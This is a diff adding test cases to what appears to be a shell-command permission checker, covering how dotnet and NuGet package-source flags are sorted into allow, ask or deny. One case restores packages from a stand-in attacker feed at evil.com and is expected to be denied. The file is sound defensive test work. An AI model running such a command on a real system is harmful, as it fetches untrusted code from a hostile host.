@@ -96,3 +96,23 @@ describe('winget, choco and scoop reach their default source, and the installer 
     ['choco install git -y', 'allow'],
   ], 'pwsh', REPO_WINDOWS);
 });
+
+describe('NuGet: a source named by NuGet.config (`-s NAME`, `-Source NAME`) reaches a host configured out of the line', () => {
+  lineTable(DENY_EVIL, [
+    ['dotnet add package X -s MyFeed', 'ask'],
+    ['dotnet restore --source=MyFeed', 'ask'],
+    ['dotnet tool install -g x --add-source MyFeed', 'ask'],
+    ['nuget install X -Source MyFeed', 'ask'],
+    ['dotnet restore -s https://evil.com/v3/index.json', 'deny'],
+    ['dotnet restore -s https://api.nuget.org/v3/index.json', 'allow'],
+    ['dotnet tool install -g x --add-source ./nupkgs', 'allow'],
+    ['dotnet test -s test.runsettings', 'allow'],
+    ['dotnet pack -s a.csproj', 'allow'],
+    ['dotnet build', 'allow'],
+    ['cargo install x --registry my', 'ask'],
+  ]);
+  lineTable(DENY_EVIL, [
+    ['dotnet add package X -s MyFeed', 'ask'],
+    ['dotnet restore -s C:\\feed', 'allow'],
+  ], 'pwsh', REPO_WINDOWS);
+});
